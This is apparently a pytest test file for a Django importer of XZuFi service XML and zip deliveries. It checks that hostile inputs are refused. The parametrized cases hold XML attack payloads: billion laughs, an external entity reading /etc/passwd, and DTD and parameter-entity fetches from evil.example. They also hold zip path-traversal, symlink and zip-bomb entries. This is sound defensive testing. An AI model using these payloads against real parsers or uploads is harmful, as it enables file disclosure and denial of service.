# SPDX-FileCopyrightText: 2026 Allmende contributors
# SPDX-License-Identifier: EUPL-1.2
"""Mallory sends a delivery."""

import io
import stat
import zipfile
from pathlib import Path
from typing import Any

import pytest

from allmende.kernel.town import queries
from allmende.kernel.town.imports import rules, service
from allmende.kernel.town.models import Service
from allmende.kernel.town.tests.imports.making import (
    Steps,
    bring,
    document,
    leistung,
    module,
    numbers,
    organisation,
    reasons,
    writes,
    zipped,
)

pytestmark = pytest.mark.django_db
LAUGHS = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))


@pytest.fixture
def file(tmp_path: Path) -> Path:
    return tmp_path / "leistungen.xml"


def with_doctype(doctype: str, text: str) -> bytes:
    content = document(writes(leistung(name="Gut"), organisation())).decode().replace("Gut", text)
    return content.replace("<transfer", f"{doctype}<transfer", 1).encode()


@pytest.mark.parametrize(
    ("doctype", "text"),
    [
        (f'<!DOCTYPE d [<!ENTITY a0 "lol">{LAUGHS}]>', "&a9;"),
        ('<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;"),
        ('<!DOCTYPE d SYSTEM "http://evil.example/x.dtd">', "Gut"),
        ('<!DOCTYPE d [<!ENTITY % p SYSTEM "http://evil.example/p"> %p;]>', "Gut"),
    ],
    ids=["billion laughs", "external entity", "external DTD", "parameter entity"],
)
def test_entities_and_document_types_are_refused(lindental: None, file: Path, doctype: str, text: str):
    assert numbers(bring(file, with_doctype(doctype, text))) == (0, 0, 0, 1)
    assert "Dokumenttyp oder Entitäten" in reasons()[0]


def test_a_tower_of_elements_is_refused_and_what_came_before_is_taken(lindental: None, file: Path):
    tower = "<schreibe>" + "<a>" * 200_000
    content = document(writes(leistung(), organisation())).decode().replace("</transfer>", tower).encode()
    assert numbers(bring(file, content)) == (2, 0, 0, 1)
    assert "zu tief verschachtelt" in reasons()[0]


def test_a_record_of_many_megabytes_is_dropped_while_it_is_read(lindental: None, file: Path):
    huge = leistung("2", name="Riesig", more=module("06", ("de", "x" * 3_000_000)))
    assert numbers(bring(file, document(writes(huge, leistung(), organisation())))) == (2, 0, 0, 1)
    assert "größer als erlaubt" in reasons()[0]


def test_a_file_that_breaks_off_keeps_what_was_whole(lindental: None, file: Path):
    whole = document(writes(leistung(), organisation()), "\n", writes(leistung("2")))
    assert numbers(bring(file, whole[: whole.rindex(b"<leistung>") + 30])) == (2, 0, 0, 1)
    assert "Ab Zeile 2 lässt sich die Datei nicht lesen" in reasons()[0]
    assert numbers(bring(file, whole))[3] == 1  # nobody is responsible for the second service
    assert "lässt sich die Datei" not in " ".join(reasons())


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"<html><body>404</body></html>", "keine XZuFi-Datei (äußerstes Element: „html“)"),
        (document(writes(leistung()), namespace="http://xoev.de/schemata/xzufi/2_1_0"), "XZuFi in der Fassung 2.1.0"),
        (b"", "Ab Zeile 1"),
        (b"\x00\x01\x02", "Ab Zeile 1"),
    ],
)
def test_what_is_no_xzufi_is_called_by_its_name(lindental: None, file: Path, content: bytes, reason: str):
    assert numbers(bring(file, content)) == (0, 0, 0, 1)
    assert reason in reasons()[0]


def test_an_archive_is_read_in_the_order_of_its_index(lindental: None, tmp_path: Path):
    files = {
        "daten/zuerst.xml": document(writes(leistung(name="Erst so"), organisation())),
        "daten/dann.xml": document(writes(leistung(name="Dann so"))),
        "daten/nicht-genannt.xml": document(writes(leistung("3", name="Gehört nicht dazu"))),
        "daten/index.txt": "\ufeffzuerst.xml\r\n\r\ndann.xml\r\nfehlt.xml\r\n".encode(),
    }
    run = bring(tmp_path / "lieferung.zip", zipped(**files))
    assert numbers(run) == (2, 0, 0, 1)
    assert "daten/fehlt.xml []: Diese Datei nennt das Verzeichnis der Lieferung, sie fehlt aber." in reasons()
    assert queries.service_card("dann-so") is not None
    assert not Service.objects.filter(pk="gehoert-nicht-dazu").exists()


def test_a_folder_is_read_like_an_archive(lindental: None, tmp_path: Path):
    folder = tmp_path / "lieferung"
    folder.mkdir()
    (folder / "b.xml").write_bytes(document(writes(leistung(name="Zweitens"))))
    (folder / "a.xml").write_bytes(document(writes(leistung(name="Erstens"), organisation())))
    run = service.import_path(folder, Steps(), form="xzufi", source="x")
    assert numbers(run) == (2, 0, 0, 0)
    assert queries.service_card("zweitens") is not None


def entry(name: str, content: bytes = b"x", *, link: bool = False) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        info = zipfile.ZipInfo(name)
        info.external_attr = (stat.S_IFLNK | 0o777) << 16 if link else 0
        archive.writestr(info, content)
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (entry("../../etc/cron.d/x.xml"), "unerlaubten Pfad"),
        (entry("/etc/x.xml"), "unerlaubten Pfad"),
        (entry("C:\\x.xml"), "unerlaubten Pfad"),
        (entry("x.xml", b"/etc/passwd", link=True), "Verknüpfung"),
        (entry("x.zip"), "weiteres Archiv"),
        (entry("readme.txt"), "keine Datei, die gelesen werden kann"),
        (zipped(**{"index.txt": b"../../etc/passwd"}), "unerlaubten Pfad"),
        (zipped(**{"index.txt": b"/etc/passwd"}), "unerlaubten Pfad"),
        (zipped(**{"bombe.xml": b"\0" * 50_000_000}), "verdächtig stark gepackt"),
    ],
    ids=["up", "absolute", "drive", "link", "nested", "nothing", "index up", "index absolute", "bomb"],
)
def test_an_archive_that_could_harm_is_refused_as_a_whole(lindental: None, tmp_path: Path, content: bytes, reason: str):
    with pytest.raises(service.ImportRefused, match=reason):
        bring(tmp_path / "a.zip", content)
    assert not Service.objects.filter(pk="hund-anmelden").exists()


def test_an_archive_with_too_much_in_it_is_refused(lindental: None, tmp_path: Path, monkeypatch: Any):
    monkeypatch.setitem(rules.limits(), "archive_entries", 2)
    with pytest.raises(service.ImportRefused, match="zu viele Dateien"):
        bring(tmp_path / "a.zip", zipped(**{f"{n}.xml": b"x" for n in range(3)}))
    monkeypatch.setitem(rules.limits(), "packed_bytes", 10)
    with pytest.raises(service.ImportRefused, match="größer als"):
        bring(tmp_path / "a.xml", b"x" * 11)


def test_a_link_in_a_folder_that_leads_out_of_it_is_not_followed(lindental: None, tmp_path: Path):
    secret = tmp_path / "geheim.xml"
    secret.write_bytes(document(writes(leistung(name="Geheim"), organisation())))
    folder = tmp_path / "lieferung"
    folder.mkdir()
    (folder / "offen.xml").write_bytes(document(writes(leistung("2", name="Offen"), organisation(services=("2",)))))
    (folder / "link.xml").symlink_to(secret)
    service.import_path(folder, Steps(), form="xzufi", source="x")
    assert not Service.objects.filter(pk="geheim").exists()
    assert queries.service_card("offen") is not None
